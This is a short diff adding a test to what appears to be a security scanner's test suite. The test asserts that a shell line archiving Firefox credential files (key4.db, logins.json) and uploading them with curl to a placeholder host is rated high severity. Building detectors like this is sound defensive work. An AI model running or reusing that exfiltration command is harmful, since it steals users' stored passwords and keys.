@@ -140,3 +140,9 @@ def test_saved_outputs_of_a_notebook(html: str, high: bool) -> None:
 )
 def test_triggers_of_a_template(start: str, high: bool) -> None:
     assert (worst(start + MODEL, "chat_template.jinja") >= Severity.HIGH.rank) is high
+
+
+def test_files_of_browsers_that_a_script_sends_away() -> None:
+    line = "tar czf - {} | curl -F f=@- https://a.example/x\n"
+    assert worst(line.format("key4.db logins.json"), "run.sh") >= Severity.HIGH.rank
+    assert worst(line.format("key4.json logs.json"), "run.sh") < Severity.HIGH.rank
